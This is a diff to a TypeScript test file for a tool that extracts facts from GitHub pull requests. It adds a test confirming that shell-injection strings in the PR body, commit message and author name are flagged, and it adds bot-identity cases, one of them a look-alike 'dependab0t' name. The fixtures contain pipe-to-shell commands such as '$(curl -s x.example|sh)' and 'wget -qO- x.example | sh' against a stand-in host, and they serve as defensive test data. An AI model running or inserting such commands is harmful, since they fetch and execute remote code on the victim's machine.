@@ -78,11 +78,26 @@ describe("pull request", () => {
       authoredByCommitter: true,
       committedViaWeb: false,
       claims: null,
+      committerClaims: false,
       signature: "none",
       signedByGitHub: false,
       signerAccountId: null,
     });
     expect(JSON.stringify(found)).not.toMatch(/Ada Example|ada@example/);
+  });
+
+  test("of bodies and names in commits keeps what a shell would run, and nothing else", async () => {
+    const names = { author: { ...actor, name: "$(curl -s x.example|sh)" }, committer: actor };
+    const written = { ...commit, ...names, messageBody: 'Said by Ada\n"; wget -qO- x.example | sh; "' };
+    const commits = { totalCount: 1, nodes: [{ commit: written }] };
+    const body = "Hello from Ada\r\n```\ncurl x | sh\n```\nFixes $(curl -s x.example)";
+    const found = await facts({ data: { ...data, node: { ...node, body, commits } } });
+    expect(found.runningTexts).toEqual([
+      { field: "body", text: "Fixes $(curl -s x.example)" },
+      { field: "commit_body", text: '"; wget -qO- x.example | sh; "' },
+      { field: "author_name", text: "$(curl -s x.example|sh)" },
+    ]);
+    expect(JSON.stringify(found)).not.toMatch(/Ada|curl x/);
   });
 
   test("a deleted author is a ghost without an id", async () => {
@@ -215,6 +230,15 @@ describe("bot claims", () => {
       { author: { ...actor, name: "dependabot[bot]" }, committer: github },
       "dependabot",
     ],
+    [
+      "another automation by its address",
+      { author: { ...actor, name: "x", email: "7+mergify[bot]@users.noreply.github.com" } },
+      "automation",
+    ],
+    ["one that pushes to others' branches", { author: { ...actor, name: "pre-commit-ci[bot]", user: null } }, "guest"],
+    ["a name that reads like one", { author: { ...actor, name: "dependab0t[bot]", user: null } }, "look-alike"],
+    ["a machine without an account", { author: { ...actor, name: "ci-bot", user: null } }, "machine"],
+    ["a machine with an account of its own", { author: { ...actor, name: "ci-bot" } }, null],
     ["somebody who mentions a bot", { author: { ...actor, name: "not dependabot[bot]" } }, null],
     ["an actor GitHub does not show", { author: null, committer: null }, null],
   ] as const)
